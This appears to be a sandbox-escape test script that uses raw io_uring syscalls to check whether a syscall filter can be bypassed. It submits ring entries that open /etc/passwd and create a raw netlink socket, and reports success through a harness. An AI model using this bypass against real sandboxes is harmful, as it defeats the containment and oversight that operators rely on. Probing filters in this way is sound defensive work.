"""io_uring: work that the kernel does without any call that a filter would see."""

import ctypes
import mmap
import os
import struct

from attacker import attempt, got_it, note, syscall

SETUP, ENTER, REGISTER = 425, 426, 427
OPENAT, SOCKET = 18, 45  # operations
SQ_RING, CQ_RING, ENTRIES = 0, 0x800_0000, 0x1000_0000  # offsets of the mappings
GET_EVENTS = 1
NETLINK, RAW, GENERIC = 16, 3, 16


def rung(ring, parameters, entry):
    """Have the ring do one thing; its result."""
    sq, cq = struct.unpack_from("10I", parameters, 40), struct.unpack_from("10I", parameters, 80)
    with (
        mmap.mmap(ring, 4096, offset=SQ_RING) as submitted,
        mmap.mmap(ring, 4096, offset=CQ_RING) as completed,
        mmap.mmap(ring, 4096, offset=ENTRIES) as entries,
    ):
        (tail,) = struct.unpack_from("I", submitted, sq[1])
        entries[:64] = entry
        struct.pack_into("I", submitted, sq[6], 0)
        struct.pack_into("I", submitted, sq[1], tail + 1)
        syscall(ENTER, ring, 1, 1, GET_EVENTS, None, 0)
        (last,) = struct.unpack_from("I", completed, cq[1])
        return struct.unpack_from("Qi", completed, cq[5] + 16 * ((last - 1) & 0))[1]


parameters = ctypes.create_string_buffer(120)
attempt("register", syscall, REGISTER, -1, 0, None, 0)
for number in range(2):  # one ring for each: an entry is used once
    ring = attempt("setup", syscall, SETUP, 1, parameters)
    if ring is None:
        break
    path = ctypes.create_string_buffer(b"/etc/passwd")
    opened = struct.pack("BBHiQQIIQ24x", OPENAT, 0, 0, -100, 0, ctypes.addressof(path), 0, os.O_RDONLY, 1)
    made = struct.pack("BBHiQQIIQ24x", SOCKET, 0, 0, NETLINK, RAW, 0, GENERIC, 0, 2)
    result = attempt("ring", rung, ring, parameters, (opened, made)[number])
    note(f"ring: {result}")
    if result is not None and result >= 0:
        got_it(f"the ring {('opened a file', 'made a socket of a forbidden kind')[number]}")
